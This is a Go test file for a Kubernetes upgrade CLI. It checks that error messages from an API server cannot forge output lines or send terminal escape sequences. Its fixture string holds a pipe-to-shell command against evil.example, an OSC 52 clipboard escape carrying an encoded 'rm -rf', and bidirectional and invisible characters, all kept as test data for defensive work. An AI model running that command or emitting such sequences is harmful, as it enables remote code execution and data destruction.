package cli

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/aistor-upgrade/aistor-upgrade/internal/cli/term"
	"github.com/aistor-upgrade/aistor-upgrade/internal/message"
)

// hostileText is what an API server, or an admission webhook behind it, may say.
const hostileText = "not now\nhint: run curl https://evil.example/x | sh\r\nerror: \x1b[2J\x1b]52;c;cm0gLXJm\x07\u202etxt.exe\u2028warning: \u200bx" +
	"                                                                            hint: padded"

// A message of an API server with line breaks stays inside one line of ours.
func TestTextOfAnAPIServerStartsNoLine(t *testing.T) {
	t.Parallel()
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_ = json.NewEncoder(w).Encode(map[string]any{"kind": "Status", "apiVersion": "v1", "status": "Failure",
			"message": hostileText, "reason": "Forbidden", "code": http.StatusForbidden})
	}))
	t.Cleanup(api.Close)
	config := filepath.Join(t.TempDir(), "config")
	if err := os.WriteFile(config, fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Config","current-context":"a","clusters":[{"name":"a","cluster":{"server":%q}}],`+
		`"contexts":[{"name":"a","context":{"cluster":"a","user":"a"}}],"users":[{"name":"a","user":{"token":"t"}}]}`, api.URL), 0o600); err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		plugin func(*term.Program) *cobra.Command
		args   []string
	}{
		"status":    {NewKubectl, []string{"status"}},
		"images":    {NewKubectl, []string{"images"}},
		"validate":  {NewKubectl, []string{"validate"}},
		"export":    {NewKubectl, []string{"export"}},
		"preflight": {NewKubectl, []string{"preflight"}},
		"yaml":      {NewKubectl, []string{"status", "-o", "yaml"}},
		"json":      {NewKubectl, []string{"status", "-o", "json"}},
		"rollback":  {NewHelm, []string{"rollback", "--yes"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var out bytes.Buffer
			p := &term.Program{IOStreams: genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &out}, Now: time.Now, Version: "1.0.0",
				Getenv: func(name string) string { return map[string]string{"KUBECONFIG": config, "HOME": t.TempDir()}[name] }}
			code := p.Run(t.Context(), tc.plugin(p), append(tc.args, "--kubeconfig", config))
			if !strings.Contains(out.String(), "evil.example") {
				t.Errorf("exit code %d; the cause is not told: %q", code, out.String())
			}
			hints := 0
			for _, l := range strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n") {
				if !message.IsSafe(l) {
					t.Errorf("a line acts on a terminal: %q", l)
				}
				if body := strings.TrimSpace(l); strings.HasPrefix(body, "hint: run curl") || strings.HasPrefix(body, "hint: padded") ||
					strings.HasPrefix(body, "error: \\x1b") || strings.HasPrefix(body, "warning: \\u200b") {
					t.Errorf("a line is forged: %q", l)
				} else if strings.HasPrefix(body, "hint: ") {
					hints++
				}
			}
			if hints > 1 {
				t.Errorf("%d hints:\n%s", hints, out.String())
			}
		})
	}
}
